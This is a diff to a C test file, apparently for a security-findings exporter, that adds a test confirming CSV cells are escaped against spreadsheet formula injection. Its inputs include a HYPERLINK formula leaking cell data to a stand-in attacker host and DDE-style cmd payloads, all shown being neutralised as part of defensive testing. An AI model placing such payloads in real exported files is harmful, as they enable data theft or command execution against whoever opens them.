@@ -13,6 +13,7 @@
 #include <string.h>
 
 #include "findings/ocsf.h"
+#include "findings/report.h"
 #include "findings/sarif.h"
 #include "json/json.h"
 #include "t.h"
@@ -164,6 +165,38 @@ static jv sarif_doc(const stored_finding *f, size_t n, buf *b)
     sarif_write(b, f, n, "1.2.3");
     if (parse_doc(b, &doc) != 0) return jv_null();
     return doc;
+}
+
+/* ---- CSV cells: no formula, whatever the name says ---- */
+
+static const char *csv(const char *s)
+{
+    buf b = BUF_INIT;
+    csv_field(&b, s);
+    const char *out = arena_strdup(A, b.data ? b.data : "");
+    buf_free(&b);
+    return out;
+}
+
+TEST(csv_cells_never_start_a_formula)
+{
+    CHECK_STR(csv("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+              "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
+    CHECK_STR(csv("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+    CHECK_STR(csv("@SUM(A1)"), "'@SUM(A1)");
+    CHECK_STR(csv("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
+    CHECK_STR(csv("\tx"), "'\tx");
+    CHECK_STR(csv("\rx"), "\"'\rx\"");
+    /* Data stays data: negative numbers, inner signs, ordinary names. */
+    CHECK_STR(csv("-12"), "-12");
+    CHECK_STR(csv("-0.5"), "-0.5");
+    CHECK_STR(csv("-1e-3"), "-1e-3");
+    CHECK_STR(csv("-"), "'-");
+    CHECK_STR(csv("-1."), "'-1.");
+    CHECK_STR(csv("web-prod"), "web-prod");
+    CHECK_STR(csv("a=b"), "a=b");
+    CHECK_STR(csv("a,b"), "\"a,b\"");
+    CHECK_STR(csv(NULL), "");
 }
 
 TEST(sarif_log_and_driver)
@@ -584,6 +617,7 @@ int main(int argc, char **argv)
 {
     if (argc == 3 && !strcmp(argv[1], "--dump")) return dump(argv[2]);
     A = arena_new(0);
+    RUN(csv_cells_never_start_a_formula);
     RUN(sarif_log_and_driver);
     RUN(sarif_rules_one_per_policy_sorted);
     RUN(sarif_levels_and_security_severity);
